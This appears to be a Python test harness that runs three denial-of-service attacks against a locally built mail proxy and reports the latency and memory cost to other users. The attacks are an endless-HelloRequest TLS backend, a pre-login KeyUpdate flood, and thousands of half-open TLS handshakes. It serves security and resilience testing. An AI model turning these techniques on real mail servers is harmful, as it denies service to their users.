"""Attacks on a running fastmail that print what they cost everybody else; see ``--help``."""

from __future__ import annotations

import argparse
import contextlib
import resource
import socket
import ssl
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

from support.authserver import AuthServer, Request, answer
from support.certificate import Certificate
from support.keyupdate import KeyUpdates
from support.listener import Connection, Listener, Moves
from support.ports import HOST, reserve
from support.processes import Echo, Session, opened
from support.proxy import Proxy

HELLO_REQUESTS = b"\x16\3\3\x40\0" + bytes(0x4000)
"""A record full of them: a handshake message of type 0 without a body (RFC 5246 section 7.4.1.1)."""


class Endless(Listener):
    """A TLS backend that never shows a certificate."""

    def serve(self, connection: Connection) -> None:
        while True:
            connection.perform(HELLO_REQUESTS * 16)


class Onlookers:
    """Relayed sessions of others, which exchange a line again and again; the slowest exchange counts."""

    def __init__(self, port: int, count: int) -> None:
        self.slowest = 0.0
        self._sessions = [Session(port) for _ in range(count)]
        self._going = True
        self._threads = [
            threading.Thread(target=self._run, args=(session,), daemon=True) for session in self._sessions
        ]
        for thread in self._threads:
            thread.start()

    def _run(self, session: Session) -> None:
        while self._going:
            began = time.monotonic()
            session.exchange()
            self.slowest = max(self.slowest, time.monotonic() - began)
            time.sleep(0.01)

    def close(self) -> None:
        self._going = False
        for thread in self._threads:
            thread.join()
        for session in self._sessions:
            session.close()


class Scene:
    """A proxy with one worker, an auth server and an honest backend; users called ``evil…`` get the other."""

    def __init__(self, directory: Path, evil: int = 0, more: str = "") -> None:
        self.certificate = Certificate(directory)
        self.plain, self.tls = reserve(), reserve()
        self._echo = Echo()
        self._evil = evil
        self._auth = AuthServer(self._judge)
        secured = f"ssl_certificate {self.certificate.path}; ssl_certificate_key {self.certificate.key};"
        mail = (
            f"auth_http 127.0.0.1:{self._auth.port}/auth; {secured} {more}\n"
            f"server {{ protocol imap; listen 127.0.0.1:{self.plain}; }}\n"
            f"server {{ protocol imap; listen 127.0.0.1:{self.tls} ssl; }}\n"
        )
        if evil:
            port = reserve()
            mail += f"server {{ protocol imap; listen 127.0.0.1:{port}; proxy_ssl on; timeout 6s; }}\n"
            self.to_evil = port
        main = "worker_rlimit_nofile 20000;"
        self.proxy = Proxy("fastmail", mail, [self.plain, self.tls], main=main, connections=12000)

    def _judge(self, request: Request) -> Moves:
        user = request.headers["auth-user"]
        return answer("OK", port=self._evil if user.startswith("evil") else self._echo.port)

    def memory(self) -> float:
        """MB that the worker has."""
        status = Path(f"/proc/{self.proxy.worker}/status").read_text()
        return int(status.split("VmRSS:")[1].split()[0]) / 1024

    def drain(self) -> None:
        """Wait until the worker has closed what its clients have."""
        before = 0
        while (now := len(opened(self.proxy.worker))) != before:
            before = now
            time.sleep(2)

    def close(self) -> None:
        self.proxy.close()
        self._auth.close()
        self._echo.close()


def tls_client(scene: Scene, keylog: Path | None = None) -> ssl.SSLSocket:
    context = ssl.create_default_context(cafile=scene.certificate.path)
    if keylog is not None:
        context.keylog_filename = str(keylog)
    sock = socket.create_connection((HOST, scene.tls))
    return context.wrap_socket(sock, server_hostname="auth.test")


def backend_handshake(directory: Path, options: argparse.Namespace) -> None:
    """Backends answer the handshake with HelloRequests without end; ``timeout`` is 6 s."""
    with contextlib.closing(Endless()) as evil, contextlib.closing(Scene(directory, evil.port)) as scene:
        onlookers = Onlookers(scene.plain, options.onlookers)
        began = time.monotonic()
        victims = []
        for number in range(options.count or 2):
            sock = socket.create_connection((HOST, scene.to_evil))
            sock.sendall(f"a LOGIN evil{number} x\r\n".encode())
            victims.append(sock)
        for sock in victims:
            sock.settimeout(60)
            with contextlib.suppress(OSError):
                while sock.recv(4096):
                    pass
        print(f"the sessions with that backend ended after {time.monotonic() - began:.1f} s")
        onlookers.close()
        print(f"the slowest exchange of {options.onlookers} others took {onlookers.slowest:.3f} s")


def key_updates(directory: Path, options: argparse.Namespace) -> None:
    """Clients that have not logged in send 1.6 MB of KeyUpdate each."""
    with contextlib.closing(Scene(directory)) as scene:
        floods = []
        for number in range(options.count or 10):
            keylog = directory / f"keylog{number}"
            client = tls_client(scene, keylog)
            client.recv(4096)
            floods.append((client, KeyUpdates(client, keylog).records(60_000, b"x NOOP\r\n")))
        onlookers = Onlookers(scene.plain, options.onlookers)
        time.sleep(0.5)
        onlookers.slowest = 0
        began = time.monotonic()
        threads = [threading.Thread(target=flood, args=pair, daemon=True) for pair in floods]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        print(f"{len(floods)} floods were over after {time.monotonic() - began:.1f} s")
        onlookers.close()
        print(f"the slowest exchange of {options.onlookers} others took {onlookers.slowest:.3f} s")


def flood(client: ssl.SSLSocket, records: bytes) -> None:
    with socket.socket(fileno=client.detach()) as beneath, contextlib.suppress(OSError):
        beneath.settimeout(60)
        beneath.sendall(records)
        beneath.recv(4096)


def half_open(directory: Path, options: argparse.Namespace) -> None:
    """Clients begin a handshake, wait, and go: half with a part of a ClientHello, half with a whole one."""
    with contextlib.closing(Scene(directory)) as scene:
        hello = first_flight()
        print(f"memory before: {scene.memory():.0f} MB")
        for name, said in (("part of a ClientHello", hello[:-1]), ("a whole ClientHello", hello)):
            sockets = []
            for _ in range(options.count or 9000):
                sock = socket.create_connection((HOST, scene.tls))
                sock.sendall(said)
                sockets.append(sock)
            time.sleep(10)
            print(f"memory with {len(sockets)} of {name}: {scene.memory():.0f} MB")
            for sock in sockets:
                sock.close()
            scene.drain()
            print(f"memory after them: {scene.memory():.0f} MB")


def first_flight() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="auth.test")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


ATTACKS: dict[str, Callable[[Path, argparse.Namespace], None]] = {
    "backend-handshake": backend_handshake,
    "key-updates": key_updates,
    "half-open": half_open,
}


def main() -> int:
    described = "\n".join(f"{name}: {attack.__doc__}" for name, attack in ATTACKS.items())
    parser = argparse.ArgumentParser(
        prog="python -m attacks",
        description=f"{__doc__}\n\n{described}",
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--count", type=int, default=0, help="how many attack at once")
    parser.add_argument("--onlookers", type=int, default=5, help="sessions whose exchanges are timed")
    options = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with tempfile.TemporaryDirectory(prefix="attacks-") as directory:
        Path(directory).chmod(0o755)
        ATTACKS[options.attack](Path(directory), options)
    return 0


if __name__ == "__main__":
    sys.exit(main())
